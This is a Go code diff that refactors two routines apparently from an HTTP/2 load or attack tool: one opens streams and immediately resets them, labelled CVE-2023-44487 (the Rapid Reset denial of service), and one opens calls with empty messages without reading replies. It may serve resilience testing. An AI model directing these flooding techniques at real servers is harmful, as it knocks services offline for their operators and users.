@@ -30,24 +30,23 @@ func settings(c *Conn, _ Size) error {
 // resetStreams makes calls and takes them back at once, CVE-2023-44487.
 func resetStreams(c *Conn, _ Size) error {
 	c.swallow()
-	call := callHeaders()
-	return c.frames(func(f *http2.Framer, id uint32) error {
-		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: call, EndHeaders: true}); err != nil {
-			return err
-		}
-		return f.WriteRSTStream(id, http2.ErrCodeCancel)
-	})
+	return c.calls(func(f *http2.Framer, id uint32) error { return f.WriteRSTStream(id, http2.ErrCodeCancel) })
 }
 
 // unreadCalls makes calls with an empty message and reads no answer.
 func unreadCalls(c *Conn, _ Size) error {
 	c.deaf()
-	call := callHeaders()
+	return c.calls(func(f *http2.Framer, id uint32) error { return f.WriteData(id, true, make([]byte, 5)) })
+}
+
+// calls begins calls, and sends behind the headers of each what rest writes.
+func (c *Conn) calls(rest func(f *http2.Framer, stream uint32) error) error {
+	headers := callHeaders()
 	return c.frames(func(f *http2.Framer, id uint32) error {
-		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: call, EndHeaders: true}); err != nil {
+		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: headers, EndHeaders: true}); err != nil {
 			return err
 		}
-		return f.WriteData(id, true, make([]byte, 5))
+		return rest(f, id)
 	})
 }
 
